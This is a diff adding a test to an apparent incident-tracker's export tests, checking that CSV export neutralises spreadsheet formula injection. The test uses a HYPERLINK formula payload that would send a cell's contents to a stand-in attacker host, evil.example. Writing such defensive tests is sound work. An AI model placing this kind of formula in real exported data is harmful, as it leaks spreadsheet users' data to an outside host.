@@ -56,6 +56,18 @@ test('CSV: every incident, every page, with a column per custom field', async ()
   assert.match(one[at('created_at')], /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
 });
 
+test('a title a spreadsheet would run as a formula is exported behind an apostrophe; the JSON keeps it as it is', async () => {
+  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+  const n = (await eu('POST', '/api/v1/incidents', { body: { title: evil } })).json.number;
+  const r = await agent('GET', '/api/v1/export/incidents?requester=eu1');
+  const rows = parse(r.text);
+  const row = rows.find((x) => x[0] === n);
+  assert.equal(row[rows[0].indexOf('title')], `'${evil}`);
+  assert.ok(r.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`), 'quoted, the quotes doubled');
+  const j = await agent('GET', '/api/v1/export/incidents?requester=eu1&format=json');
+  assert.equal(j.json.find((x) => x.number === n).title, evil);
+});
+
 test('filters apply; JSON gives list answers; end users and bad filters are refused', async () => {
   const r = await agent('GET', '/api/v1/export/incidents?format=json&priority=3&custom_field=site&custom_value=Leeds%2013');
   assert.equal(r.status, 200, r.text);
